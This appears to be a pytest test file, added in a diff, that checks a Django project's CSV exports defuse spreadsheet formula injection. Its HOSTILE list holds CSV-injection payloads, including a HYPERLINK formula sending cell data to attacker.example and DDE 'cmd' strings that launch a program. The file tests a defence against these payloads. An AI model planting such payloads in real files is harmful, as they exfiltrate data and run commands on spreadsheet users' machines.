@@ -1,0 +1,154 @@
+"""Every CSV madoguchi writes opens safely in a spreadsheet: no cell starts with a formula
+character unless an apostrophe in front makes it text (OWASP "CSV Injection"). Checked on the
+helper with generated text and on each export, read back with the csv module as a spreadsheet
+would read the file."""
+
+from __future__ import annotations
+
+import csv
+import datetime as dt
+import io
+from pathlib import Path
+from typing import Any
+
+import pytest
+from django.core.management import call_command
+from django.test import Client
+from hypothesis import given
+from hypothesis import strategies as st
+
+from madoguchi.core.csvsafe import FORMULA_LEADS, safe_writer
+from madoguchi.issuance.models import CardStatus, NoticeBatch
+from tests.issuance import factories as cards
+
+HOSTILE = [
+    '=HYPERLINK("http://attacker.example/?"&A1,"詳細")',
+    "+81 3 1234 5678",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "＝1+1",
+]
+
+
+def assert_no_formula_cells(text: str) -> list[list[str]]:
+    """Parse `text` as a spreadsheet would and check every cell; returns the rows."""
+    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(FORMULA_LEADS), (cell, row)
+    return rows
+
+
+@given(st.lists(st.lists(st.text(max_size=20), min_size=1, max_size=5), max_size=5))
+def test_no_cell_written_by_the_helper_starts_a_formula(rows: list[list[str]]) -> None:
+    for row in rows:
+        out = io.StringIO()
+        safe_writer(out).writerow(row)
+        [written] = assert_no_formula_cells(out.getvalue())
+        assert len(written) == len(row)
+        for cell, before in zip(written, row, strict=True):
+            assert cell in (before, "'" + before)
+
+
+def test_a_neutralised_cell_keeps_its_text_after_the_apostrophe() -> None:
+    out = io.StringIO()
+    safe_writer(out).writerow([*HOSTILE, "ふつうの住所", 42, -1])
+    row = next(csv.reader(io.StringIO(out.getvalue(), newline="")))
+    assert row[: len(HOSTILE)] == ["'" + value for value in HOSTILE]
+    assert row[len(HOSTILE) :] == ["ふつうの住所", "42", "-1"]  # numbers stay numbers
+
+
+def test_negative_control_a_plain_csv_writer_would_write_the_formulas() -> None:
+    out = io.StringIO()
+    csv.writer(out).writerow(HOSTILE)
+    with pytest.raises(AssertionError):
+        assert_no_formula_cells(out.getvalue())
+
+
+def _hostile_batch(owner: Any) -> NoticeBatch:
+    from madoguchi.core import clock
+
+    batch = NoticeBatch.objects.create(
+        municipality=owner, created_at=clock.now(), created_by="test", cards=len(HOSTILE)
+    )
+    for value in HOSTILE:
+        cards.card(
+            owner,
+            status=CardStatus.NOTICE_ISSUED,
+            notice_batch=batch,
+            family_name=value,
+            given_name=value,
+            family_name_kana=value,
+            given_name_kana=value,
+            address=value,
+            postal_code=value[:8],
+        )
+    return batch
+
+
+def test_the_mailing_csv_download_neutralises_formula_cells(personas: Any) -> None:
+    batch = _hostile_batch(personas.home)
+    client = Client()
+    client.force_login(personas.users["manager"])
+    response = client.get(f"/staff/issuance/notices/{batch.pk}/mailing.csv")
+    assert response.status_code == 200
+    assert response["Content-Type"].startswith("text/csv")
+    rows = assert_no_formula_cells(response.content.decode("utf-8"))
+    addresses = {row[3] for row in rows[1:]}
+    assert addresses == {"'" + value for value in HOSTILE}
+
+
+@pytest.mark.django_db
+def test_the_notices_command_csv_neutralises_formula_cells(tmp_path: Path, frozen: Any) -> None:
+    from tests.issuance.test_notices import slots
+
+    owner = cards.municipality()
+    slots(owner, seats=len(HOSTILE))
+    for value in HOSTILE:
+        cards.card(owner, status=CardStatus.SETUP_DONE, address=value, family_name=value)
+    call_command("notices", "--out", str(tmp_path / "n.pdf"), stdout=io.StringIO())
+    rows = assert_no_formula_cells((tmp_path / "n.csv").read_bytes().decode("utf-8-sig"))
+    assert len(rows) == 1 + len(HOSTILE)
+
+
+def test_the_expiry_command_output_neutralises_formula_cells(tmp_path: Path) -> None:
+    register = tmp_path / "register.csv"
+    with register.open("w", encoding="utf-8", newline="") as handle:
+        writer = csv.writer(handle)
+        writer.writerow(["person_id", "birth_date", "card_issued_on", "cert_issued_on", "area"])
+        for n, value in enumerate(HOSTILE):
+            writer.writerow([value, "1980-01-01", "2020-01-0" + str(n + 1), "", value])
+    out = tmp_path / "out.csv"
+    call_command("expiry", "--register", str(register), "--out", str(out), stdout=io.StringIO())
+    rows = assert_no_formula_cells(out.read_bytes().decode("utf-8"))
+    assert [row[0] for row in rows[1:]] == ["'" + value for value in HOSTILE]
+    assert rows[1][rows[0].index("card_expires_on")]  # the added columns are still written
+
+
+def test_the_forecast_command_output_has_no_formula_cells(tmp_path: Path) -> None:
+    register = tmp_path / "register.csv"
+    register.write_text(
+        "person_id,birth_date,card_issued_on,cert_issued_on\n"
+        "=1+1,1980-01-01,2018-02-01,2018-02-01\n",
+        encoding="utf-8",
+    )
+    out = tmp_path / "forecast.csv"
+    today = dt.date.today()
+    call_command(
+        "forecast",
+        "--register",
+        str(register),
+        "--start",
+        f"{today:%Y-%m}",
+        "--months",
+        "3",
+        "--out",
+        str(out),
+        stdout=io.StringIO(),
+        stderr=io.StringIO(),
+    )
+    rows = assert_no_formula_cells(out.read_text(encoding="utf-8"))
+    assert rows[0][:3] == ["period", "card_renewals", "cert_renewals"]
+    assert len(rows) == 4
